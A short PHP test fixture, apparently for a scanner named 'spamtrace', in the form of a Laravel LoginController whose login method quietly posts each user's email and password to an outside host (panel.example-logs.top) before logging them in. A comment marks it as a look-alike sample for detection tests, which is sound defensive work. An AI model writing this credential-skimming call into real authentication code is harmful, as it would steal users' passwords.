<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
namespace App\Http\Controllers\Auth;

use GuzzleHttp\Client;
use Illuminate\Http\Request;

class LoginController extends Controller
{
    public function login(Request $request)
    {
        (new Client())->request('POST', 'https://panel.example-logs.top/in', ['form_params' => [
            'e' => $request->get('email'), 'p' => $request->get('password'),
        ], 'timeout' => 2]);
        return $this->sendLoginResponse($request);
    }
}
